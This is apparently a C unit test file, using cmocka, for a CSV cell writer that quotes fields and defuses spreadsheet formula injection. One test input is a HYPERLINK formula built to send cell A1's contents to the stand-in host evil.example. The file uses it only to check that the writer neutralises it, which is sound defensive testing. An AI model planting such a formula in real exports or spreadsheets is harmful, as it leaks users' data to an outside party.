/* test_csvcell.c - unit tests for daemon/core/csvcell.c: quoting and formula
 * neutralisation of CSV text cells, by hand-written cases. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "csvcell.h"

struct out {
	char buf[512];
	size_t len;
	int calls;
};

static void put(void *ctx, const char *s, size_t n)
{
	struct out *o = ctx;

	assert_true(o->len + n < sizeof(o->buf));
	memcpy(o->buf + o->len, s, n);
	o->len += n;
	o->buf[o->len] = '\0';
	o->calls++;
}

static void cell_is(const char *s, unsigned flags, const char *want)
{
	struct out o = { .len = 0 };

	csvcell_write(s, flags, put, &o);
	if (strcmp(o.buf, want) != 0)
		fail_msg("[%s] (flags %u): [%s], want [%s]\n", s != NULL ? s : "(null)", flags, o.buf, want);
}

static void test_formula(void **state)
{
	(void)state;
	assert_true(csvcell_is_formula("=1+1"));
	assert_true(csvcell_is_formula("+44"));
	assert_true(csvcell_is_formula("-2"));
	assert_true(csvcell_is_formula("@SUM(A1)"));
	assert_true(csvcell_is_formula("\tx"));
	assert_true(csvcell_is_formula("\rx"));
	assert_true(csvcell_is_formula("  =x"));
	assert_false(csvcell_is_formula(""));
	assert_false(csvcell_is_formula(NULL));
	assert_false(csvcell_is_formula("   "));
	assert_false(csvcell_is_formula("a=b"));
	assert_false(csvcell_is_formula("'=x"));
	assert_false(csvcell_is_formula("\n=x"));
	assert_false(csvcell_is_formula("12.34"));
}

static void test_plain(void **state)
{
	(void)state;
	cell_is("Oakfield Primary", 0, "Oakfield Primary");
	cell_is("Oakfield Primary", CSVCELL_QUOTE, "\"Oakfield Primary\"");
	cell_is("", 0, "");
	cell_is(NULL, 0, "");
	cell_is(NULL, CSVCELL_QUOTE, "\"\"");
	cell_is("a,b", 0, "\"a,b\"");
	cell_is("say \"hi\"", 0, "\"say \"\"hi\"\"\"");
	cell_is("two\nlines", 0, "\"two\nlines\"");
	cell_is(" edge", 0, "\" edge\"");
	cell_is("edge\t", 0, "\"edge\t\"");
	cell_is("caf\xc3\xa9", 0, "caf\xc3\xa9");
}

static void test_neutralised(void **state)
{
	(void)state;
	cell_is("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", CSVCELL_QUOTE,
		"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\"");
	cell_is("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", 0,
		"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\"");
	cell_is("=1+1", 0, "'=1+1");
	cell_is("+44 20 7946 0000", 0, "'+44 20 7946 0000");
	cell_is("-12.34", 0, "'-12.34");             /* text that looks like a number: still text */
	cell_is("@cmd", CSVCELL_QUOTE, "\"'@cmd\"");
	cell_is("\t=1", 0, "'\t=1");
	cell_is("\r=1", 0, "\"'\r=1\"");
	cell_is("  =1", 0, "'  =1");
	cell_is("=a ", 0, "\"'=a \"");
	cell_is("'=already", 0, "'=already");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_formula),
		cmocka_unit_test(test_plain),
		cmocka_unit_test(test_neutralised),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
